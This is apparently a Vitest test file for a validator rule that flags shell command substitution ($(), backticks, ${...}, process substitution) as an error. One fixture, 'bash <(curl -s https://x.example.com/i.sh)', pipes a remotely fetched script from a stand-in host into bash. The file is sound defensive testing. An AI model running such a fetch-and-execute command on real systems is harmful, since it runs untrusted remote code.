import { expect, test } from 'vitest';
import { findingOn, raisedBy } from '../../../../test/support/actions.ts';

const ID = 'command.substitution';
const BRACED = ['$', '{HOME}'].join('');

test.each([
  ['echo $(id)', '$('],
  ["echo '$(id)'", '$('],
  [`echo ${BRACED}`, BRACED.slice(0, 2)],
  ['bash <(curl -s https://x.example.com/i.sh)', '<('],
])('GP-12-30 GP-12-38 VP-19-06 VP-19-08 %s is an error, quoted or not', (command, evidence) => {
  const finding = findingOn(ID, { command, env: 'HOME' });
  expect(finding).toMatchObject({ count: 1, severity: 'error', blocks_level: 3, evidence, achieved: 2 });
});

test('GP-12-30 VP-19-07 a backtick is an error', () => {
  expect(findingOn(ID, { command: 'echo `id`' })).toMatchObject({
    severity: 'error',
    evidence: '`',
    achieved: 2,
  });
});

test('GP-12-30 a dollar before a name or a digit, and a bracket, are no substitution', () => {
  expect(raisedBy({ command: 'echo (a)', class: 'normal' })).not.toContain(ID);
  expect(raisedBy({ command: 'echo $5', class: 'normal' })).not.toContain(ID);
  expect(raisedBy({ command: 'echo $HOME', env: 'HOME', runner: 'shell' })).not.toContain(ID);
});
